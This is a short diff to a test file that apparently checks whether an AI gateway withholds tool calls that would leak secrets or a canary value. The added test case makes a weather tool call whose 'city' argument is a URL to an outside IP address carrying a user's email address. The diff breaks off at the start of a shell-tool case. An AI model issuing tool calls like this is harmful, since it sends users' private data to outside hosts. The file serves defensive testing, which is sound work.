@@ -264,6 +264,11 @@ describe('gateway: function calling with tool results, definitions and calls rai
 
   it('withholds an answer whose tool call would send secrets away or leak the canary', async () => {
     const attempts: ((messages: RecordedMessage[]) => { name: string; arguments: string })[] = [
+      // The user's address sent away in a URL the weather tool would fetch.
+      () => ({
+        name: 'get_weather',
+        arguments: JSON.stringify({ city: 'https://203.0.113.9/w?u=carla.ruiz%40globex.example' }),
+      }),
       () => ({
         name: 'run_shell',
         arguments: JSON.stringify({
